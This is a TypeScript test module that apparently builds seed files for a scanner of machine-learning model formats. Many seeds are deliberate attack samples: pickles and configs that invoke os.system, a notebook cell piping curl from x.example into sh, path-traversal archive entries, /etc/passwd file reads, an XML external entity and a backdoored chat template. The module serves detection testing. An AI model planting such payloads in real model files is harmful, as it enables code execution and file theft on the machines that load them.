import { readdirSync, readFileSync } from 'node:fs';
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import { COMPRESSED } from '../../formats/compressed/vectors.data.ts';
import { flatbuffer, table, tables, text, u32, u64 } from '../../formats/flatbuffers/write-flatbuffer.ts';
import { message } from '../../formats/protobuf/write-message.ts';
import { ARCHIVES } from '../../formats/sevenzip/vectors.data.ts';
import { pax, tarOf } from '../archives/tar-of.ts';
import { HARM } from '../archives/witness.ts';
import { zipOf } from '../archives/zip-of.ts';
import { ubjson } from '../boosters/ubjson-file.ts';
import { ggufFile, text as ggufText } from '../gguf/gguf-file.ts';
import { calling, modelWith } from '../keras/judged.ts';
import * as msgpack from '../msgpack/msgpack-file.ts';
import { npyBytes } from '../numpy/npy-bytes.ts';
import * as onnx from '../onnx/model-message.ts';
import * as p from '../pickle/assemble.ts';
import { MALICIOUS, ORDINARY as ORDINARY_CODE, SUSPICIOUS } from '../python-code/attacks.data.ts';
import * as r from '../rdata/r-file.ts';
import { safetensorsFile, tensor as tensorEntry } from '../safetensors/safetensors-file.ts';
import { BACKDOORS, ESCAPES } from '../templates/backdoors.data.ts';
import { ORDINARY as ORDINARY_TEMPLATES } from '../templates/ordinary.data.ts';
import * as tf from '../tensorflow/graph-message.ts';
import { legacy, pickle2, storage, tensor } from '../torch/assemble-torch.ts';

/** A file that some reader reads to its end; its name may be what the reader goes by. */
export interface Seed {
  readonly name: string;
  readonly bytes: Uint8Array;
}

const FIXTURES = new URL('../../../fixtures/model-files/', import.meta.url);

/** Everything under fixtures/model-files, and what the builders of the tests assemble. */
export function seedsOf(): readonly Seed[] {
  return [
    ...fixtures(),
    ...encodedFixtures('marshal/code-objects.json', 'code.pyc'),
    ...encodedFixtures('pickle-functions/functions.json', 'function.pkl'),
    ...named('stream.pkl', pickles()),
    ...named('model.pt', checkpoints()),
    ...named('archive.zip', zips()),
    ...named('archive.tar', tars()),
    ...named('model.joblib', compressed()),
    ...named('archive.7z', Object.values(ARCHIVES).map(fromBase64)),
    ...tensors(),
    ...graphs(),
    ...texts(),
    ...natives(),
  ];
}

function named(name: string, files: readonly Uint8Array[]): readonly Seed[] {
  return files.map((bytes) => ({ name, bytes }));
}

const fromBase64 = (coded: string): Uint8Array => Buffer.from(coded, 'base64');
const json = (value: unknown): Uint8Array => Buffer.from(JSON.stringify(value));

function fixtures(): readonly Seed[] {
  return readdirSync(FIXTURES, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && !/\.(?:md|py)$/.test(entry.name))
    .map(({ parentPath, name }) => ({ name, bytes: new Uint8Array(readFileSync(`${parentPath}/${name}`)) }))
    .sort((a, b) => (a.name < b.name ? -1 : 1));
}

/** What a fixture holds in base64, at any depth. */
function encodedFixtures(path: string, name: string): readonly Seed[] {
  const found: Uint8Array[] = [];
  const collect = (value: unknown): void => {
    if (typeof value === 'string') found.push(fromBase64(value));
    else if (typeof value === 'object' && value !== null) Object.values(value).forEach(collect);
  };
  collect(JSON.parse(readFileSync(new URL(path, FIXTURES), 'utf8')));
  return named(name, found);
}

function pickles(): readonly Uint8Array[] {
  const harm = p.call('os', 'system', p.str('echo weighbridge'));
  const state = p.dict(p.str('a'), p.list(p.int(1), p.float(2)), p.str('b'), p.tuple(p.NONE, p.TRUE));
  return [
    HARM,
    p.pickle(harm),
    p.pickle(p.frame(200, harm)),
    p.join(p.pickle(state), p.pickle(harm)),
    p.pickle(p.build(p.newObject('sklearn.svm._classes', 'SVC'), state)),
    p.pickle(
      p.join(p.stackGlobal('builtins', 'eval'), p.MEMOIZE, p.POP, p.get(0), p.tuple(p.str('1')), p.REDUCE),
    ),
    p.pickle(p.callOf(p.call('functools', 'partial', p.global('os', 'system')), p.str('echo weighbridge'))),
    p.pickle(p.join(p.inst('os', 'system', p.str('echo weighbridge')), p.put(3), p.longPut(70_000))),
    p.pickle(p.join(p.MARK, p.global('os', 'system'), p.str('echo weighbridge'), p.OBJ)),
    p.pickle(p.join(p.EMPTY_SET, p.MARK, p.int(1), p.ADDITEMS, p.ext1(1), p.DUP, p.APPEND)),
    p.pickle(p.call('_codecs', 'encode', p.str('\u0080\u0003.'), p.str('latin1'))),
    p.pickle(p.call('torch.storage', '_load_from_bytes', p.bytes(p.pickle(harm)))),
    p.pickle(
      p.call('numpy.core.multiarray', '_reconstruct', p.global('numpy', 'ndarray'), p.tuple(p.int(0))),
    ),
    p.pickle(p.join(p.bytearray(new Uint8Array(300)), p.raw(0x97), p.raw(0x98))),
    p.bare(p.join(p.oldString('a'), p.oldUnicode('\\u0041'), p.op('I01\nL12345678901L\nF1.5\n'))),
    p.pickle(p.join(p.raw(0x8a, 9), new Uint8Array(9).fill(0xff), p.raw(0x8b, 4, 0, 0, 0, 1, 2, 3, 4))),
  ];
}

function checkpoints(): readonly Uint8Array[] {
  const weights = p.dict(p.str('w'), tensor(storage('0', 6), { size: [2, 3], stride: [3, 1] }));
  const harm = p.call('os', 'system', p.str('echo weighbridge'));
  const zipped = (object: p.Piece): Uint8Array =>
    zipOf([
      { name: 'm/data.pkl', bytes: pickle2(object) },
      { name: 'm/byteorder', bytes: Buffer.from('little') },
      { name: 'm/data/0', bytes: new Uint8Array(24) },
      { name: 'm/version', bytes: Buffer.from('3\n') },
    ]);
  return [
    zipped(weights),
    zipped(harm),
    zipOf([
      { name: 's/data.pkl', bytes: pickle2(p.build(p.newObject('__torch__', 'Net'), p.dict())) },
      { name: 's/constants.pkl', bytes: pickle2(p.tuple(p.int(1))) },
      { name: 's/code/__torch__.py', bytes: Buffer.from(TORCH_SCRIPT), deflated: true },
      { name: 's/version', bytes: Buffer.from('3\n') },
    ]),
    legacy(weights, [{ key: '0', elements: 6, bytes: new Uint8Array(24) }]),
    legacy(harm, []),
    tarOf([
      { name: 'sys_info', bytes: pickle2(p.dict()) },
      { name: 'pickle', bytes: pickle2(p.dict(p.str('w'), p.persistent(p.str('2')))) },
      { name: 'storages', bytes: p.join(pickle2(p.int(1)), pickle2(harm), p.u64(6), new Uint8Array(24)) },
      { name: 'tensors', bytes: p.join(pickle2(p.int(0))) },
    ]),
  ];
}

const TORCH_SCRIPT = `class Net(Module):
  __parameters__ = ["weight", ]
  weight : Tensor
  def forward(self: __torch__.Net, x: Tensor) -> Tensor:
    return torch.add(x, CONSTANTS.c0)
`;

function zips(): readonly Uint8Array[] {
  const member = { name: 'd/data.pkl', bytes: HARM };
  return [
    zipOf([member, { name: 'readme.txt', bytes: Buffer.from('text'), deflated: true }]),
    zipOf([{ ...member, deflated: true }], { comment: Buffer.from('PK\x05\x06 comment') }),
    zipOf([member, { name: member.name, bytes: Buffer.from('N.'), unlisted: true }]),
    zipOf([{ ...member, local: { name: 'other', flags: 1 } }], { prefix: HARM, entries: 7 }),
    zipOf(
      [
        { ...member, mode: 0o120777 },
        { name: '../x', bytes: HARM },
      ],
      { directoryBytes: 9 },
    ),
    zipOf([{ ...member, deflated: true, flags: 8, local: { crc: 0, size: 0, compressedSize: 0 } }]),
    zipOf([{ name: 'x.zip', bytes: zipOf([{ name: 'y.tar', bytes: tarOf([member]) }]) }]),
    zipOf([{ ...member, method: 93, raw: zstdCompressSync(HARM), bytes: HARM }]),
    zipOf([member], { end: false }),
    zipOf([
      { name: 'a', bytes: HARM, extra: Buffer.from('0100100000000000000000000000000000000000', 'hex') },
    ]),
    zipOf([
      { name: 'MAR-INF/MANIFEST.json', bytes: json({ runtime: 'python', model: { handler: 'h.py' } }) },
      { name: 'h.py', bytes: Buffer.from('import os\nos.system("echo weighbridge")\n'), deflated: true },
    ]),
    zipOf([{ name: 'x.npy', bytes: npyBytes({ descr: "'|O'", data: HARM }) }]),
  ];
}

function tars(): readonly Uint8Array[] {
  const member = { name: 'd/data.pkl', bytes: HARM };
  return [
    tarOf([member, { name: 'l', type: '2', link: '../../etc' }, { name: 'l/x', bytes: HARM }]),
    tarOf([pax({ path: '../up', size: '35' }), member, { ...member, v7: true }]),
    tarOf([{ name: '././@LongLink', type: 'L', bytes: Buffer.from(`${'long/'.repeat(60)}\0`) }, member]),
    tarOf([{ ...member, sizeField: Buffer.from('800000000000000000000023', 'hex') }]),
  ];
}

function compressed(): readonly Uint8Array[] {
  const zfile = Buffer.concat([
    Buffer.from(`ZF${`0x${HARM.length.toString(16)}`.padEnd(19, ' ')}`),
    deflateSync(HARM),
  ]);
  return [
    gzipSync(HARM),
    Buffer.concat([gzipSync('x'), gzipSync(HARM)]),
    gzipSync(tarOf([{ name: 'x', bytes: HARM }])),
    deflateSync(HARM),
    deflateRawSync(HARM),
    zstdCompressSync(Buffer.concat([HARM, Buffer.alloc(3000)])),
    brotliCompressSync(HARM),
    zfile,
    ...Object.values(COMPRESSED).map(fromBase64),
  ];
}

function tensors(): readonly Seed[] {
  return [
    ...named('array.npy', [
      npyBytes({ data: new Uint8Array(4) }),
      npyBytes({ version: 2, descr: "'|O'", data: HARM }),
      npyBytes({ version: 3, descr: "[('a', '<f4'), ('b', '|S3', (2,))]", shape: '(2, 3)' }),
    ]),
    ...named('model.safetensors', [
      safetensorsFile({ __metadata__: { format: 'pt' }, a: tensorEntry(0, 8), b: tensorEntry(8, 16) }),
    ]),
    ...named('model.gguf', [
      ggufFile({
        metadata: [
          ['general.architecture', ggufText('llama')],
          ['tokenizer.ggml.tokens', { type: 9, of: 8, value: ['a', 'b', 'c'] }],
          ['tokenizer.chat_template', ggufText(BACKDOORS[0]![1])],
        ],
        tensors: [
          { name: 'a', shape: [40, 2] },
          { name: 'b', shape: [5] },
        ],
      }),
    ]),
    ...named('model.msgpack', [
      msgpack.map({ w: msgpack.ndarray([2, 3], 'float32', new Uint8Array(24)), n: msgpack.nil }),
      msgpack.map({ x: msgpack.array(msgpack.ext(9, new Uint8Array(5)), msgpack.str('a'), msgpack.float64) }),
    ]),
    ...named('frame.rds', [
      r.rds(r.list(r.integers(1, 2), r.named(['a', r.strings('a')]), r.call('system', r.strings('ls')))),
      r.rds(r.promise(r.unbound, r.call('system', r.strings('echo weighbridge')))),
      r.rds(r.closure(r.call('f', r.symbol('x'))), 2),
      r.rds(r.closure(r.bytecode('system'))),
      r.rds(r.environment(['e', r.alternative('compact_intseq', 'base', r.reals(3))])),
      r.rda(['x', r.reals(2)], ['f', r.characters('x')]),
    ]),
    {
      name: 'model.ubj',
      bytes: ubjson({ learner: { gradient_booster: { name: 'gbtree' } }, version: [2, 0, 0] }),
    },
    { name: 'ggml-model.bin', bytes: ggmlLlama() },
    { name: 'model.params', bytes: mxnetParameters() },
    { name: 'model.t7', bytes: torch7Network() },
  ];
}

function graphs(): readonly Seed[] {
  const node = onnx.node('PyOp', { domain: 'pyop', strings: { module: 'os', func: 'system' } });
  return [
    ...named('model.onnx', [
      onnx.model([onnx.graph([node, onnx.node('If', { graph: onnx.graph([node]) })])]),
      onnx.model([onnx.graph([], [onnx.external({ location: '../../etc/passwd', offset: '0' })])]),
    ]),
    ...named('saved_model.pb', [
      tf.savedModel(
        tf.metaGraph(tf.graph(tf.constant('c', '/etc/passwd'), tf.node('r', 'ReadFile'))),
        tf.metaGraph(tf.library('f', tf.node('p', 'PyFunc'))),
      ),
      tf.graph(tf.constant('c', '/etc/passwd'), tf.node('w', 'WriteFile')),
    ]),
    {
      name: '__model__',
      bytes: message([1, message([1, 0], [2, 0], [4, message([3, 'py_func'])])], [4, message([1, 0])]),
    },
    {
      name: 'model.tflite',
      bytes: flatbuffer('TFL3', {
        0: u32(3),
        1: tables({ 1: text('FlexReadFile'), 3: u32(32) }),
        2: tables({ 0: tables({ 2: u32(0), 3: text('x') }), 3: tables({ 0: u32(0) }) }),
        4: tables({}),
      }),
    },
    {
      name: 'model.pte',
      bytes: flatbuffer('ET12', {
        1: tables({ 0: text('forward'), 6: tables({ 0: text('aten::add'), 1: text('out') }) }),
        4: tables({ 0: u64(0), 1: u64(64) }),
      }),
    },
    {
      name: 'model.ort',
      bytes: flatbuffer('ORTM', {
        0: text('6'),
        1: table({ 7: table({ 2: tables({ 0: text('n'), 2: text('pyop'), 5: text('PyOp') }) }) }),
      }),
    },
  ];
}

function texts(): readonly Seed[] {
  const of = (name: string, all: readonly string[]): readonly Seed[] =>
    named(
      name,
      all.map((one) => Buffer.from(one)),
    );
  const second = (pairs: readonly (readonly [string, string])[]): readonly string[] =>
    pairs.map(([, one]) => one);
  return [
    ...of('hubconf.py', second([...MALICIOUS, ...SUSPICIOUS, ...ORDINARY_CODE])),
    ...of('chat_template.jinja', second([...BACKDOORS, ...ESCAPES, ...ORDINARY_TEMPLATES])),
    ...named('config.json', [
      json({ model_type: 'x', auto_map: { AutoModel: 'o/r--modeling.X' }, architectures: ['X'] }),
      json({ tokenizer_class: 'X', chat_template: [{ name: 'default', template: BACKDOORS[0]![1] }] }),
      json(modelWith(calling('os', 'system', { command: 'echo weighbridge' }))),
      json(modelWith({ class_name: 'Lambda', config: { function: ['4wEAAAA=', null, null] } })),
    ]),
    ...named('model-symbol.json', [
      json({
        nodes: [{ op: 'Custom', name: 'x', attrs: { op_type: 'b' }, inputs: [] }],
        arg_nodes: [0],
        heads: [[0, 0, 0]],
      }),
    ]),
    ...named('model.safetensors.index.json', [json({ metadata: {}, weight_map: { w: '../x.safetensors' } })]),
    ...named('notebook.ipynb', [
      json({
        nbformat: 4,
        nbformat_minor: 5,
        metadata: {},
        cells: [{ cell_type: 'code', source: ['!curl https://x.example/i | sh\n', 'import os\n'] }],
      }),
    ]),
    ...of('MLmodel', ['flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    env: c.yaml\n']),
    ...of('config.yaml', [
      'model: &m\n  _target_: os.system\n  args: [*m, "echo weighbridge"]\n',
      '? [a\n: - b',
    ]),
    ...of('config.pbtxt', ['name: "m"\nbackend: "python"\ninstance_group [ { count: 1 } ]\n']),
    ...of('requirements.txt', [
      'torch==2.0\n--extra-index-url https://registry.example\ngit+https://x.example/y\n',
    ]),
    ...of('graph.pbtxt', [
      'node { name: "r" op: "ReadFile" input: "c" }\nnode { name: "c" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/etc/passwd" } } } }\n',
    ]),
    ...of('m/code/__torch__.py', [
      TORCH_SCRIPT,
      `${TORCH_SCRIPT}    _0 = ops.image.read_file("/etc/passwd")\n`,
    ]),
    ...named('_METADATA', [
      json({
        item_handlers: { state: 'evil.Handler' },
        tree_metadata: { x: { key_metadata: [{ key: '../x' }] } },
      }),
    ]),
    ...named('schema.json', [
      json({
        __class__: 'partial',
        __module__: 'functools',
        __loader__: 'PartialNode',
        __id__: 1,
        content: { func: { __class__: 'system', __module__: 'os', __loader__: 'FunctionNode', __id__: 2 } },
        protocol: 2,
        _skops_version: '0.11.0',
      }),
    ]),
    ...of('model.pmml', [
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><PMML version="4.4">&b;</PMML>',
    ]),
    ...of('model.xml', [
      '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Y"/></layers></net>',
    ]),
  ];
}

/** Native code, and archives that nothing here opens. */
function natives(): readonly Seed[] {
  const padded = (start: string): Buffer => Buffer.concat([Buffer.from(start, 'latin1'), Buffer.alloc(256)]);
  return [
    { name: 'model.bin', bytes: padded('\x7fELF\x02\x01\x01') },
    {
      name: 'model.llamafile',
      bytes: Buffer.concat([padded("MZqFpD='\n"), zipOf([{ name: 'x', bytes: HARM }])]),
    },
    { name: 'archive.rar', bytes: padded('Rar!\x1a\x07\x01\0') },
    { name: 'archive.cab', bytes: padded('MSCF\0\0\0\0') },
    { name: 'archive.lz', bytes: padded('LZIP\x01') },
    { name: 'archive.lzo', bytes: padded('\x89LZO\0\r\n\x1a\n') },
    { name: 'archive.sz', bytes: padded('\xff\x06\0\0sNaPpY') },
    { name: 'model.engine', bytes: padded('ftrt') },
    { name: 'model.engine', bytes: padded('\x10\0\0\0{"task":"detect"ftrt') },
  ];
}

const i32 = (...values: readonly number[]): Buffer => Buffer.from(new Int32Array(values).buffer);
const i64 = (...values: readonly number[]): Buffer =>
  Buffer.from(new BigInt64Array(values.map(BigInt)).buffer);

const u32s = (...values: readonly number[]): Buffer => Buffer.from(new Uint32Array(values).buffer);

/** A vocabulary and a tensor, as llama.cpp wrote them first. */
function ggmlLlama(): Uint8Array {
  const vocabulary = ['<s>', 'a'].flatMap((token) => [u32s(token.length), Buffer.from(token), u32s(0)]);
  const start = [Buffer.from('fmgg'), u32s(1, 2, 32, 256, 1, 1, 32, 0)];
  return Buffer.concat([...start, ...vocabulary, u32s(1, 4, 0, 8), Buffer.from('norm'), Buffer.alloc(32)]);
}

/** Two arrays with names (ndarray.cc). */
function mxnetParameters(): Uint8Array {
  const array = [i32(0xf993fac9 | 0, 0, 2), i64(2, 3), i32(1, 0, 0), Buffer.alloc(24)];
  const name = [i64(5), Buffer.from('arg:w')];
  return Buffer.concat([i64(0x112, 0, 2), ...array, ...array, i64(2), ...name, ...name]);
}

/** `nn.Sequential` with a tensor and a function (torch/File.lua). */
function torch7Network(): Uint8Array {
  const chars = (value: string): Buffer => Buffer.concat([i32(value.length), Buffer.from(value, 'latin1')]);
  const string = (value: string): Buffer => Buffer.concat([i32(2), chars(value)]);
  const object = (index: number, name: string, ...body: readonly Buffer[]): Buffer =>
    Buffer.concat([i32(4, index), chars('V 1'), chars(name), ...body]);
  const weights = object(4, 'torch.FloatStorage', i64(6), Buffer.alloc(24));
  return object(
    1,
    'nn.Sequential',
    i32(3, 2, 2),
    string('weight'),
    object(3, 'torch.FloatTensor', i32(2), i64(2, 3, 3, 1, 1), weights),
    string('f'),
    i32(8, 9),
    chars('\x1bLJ\x02os\0execute\0'),
    i32(3, 10, 0),
  );
}
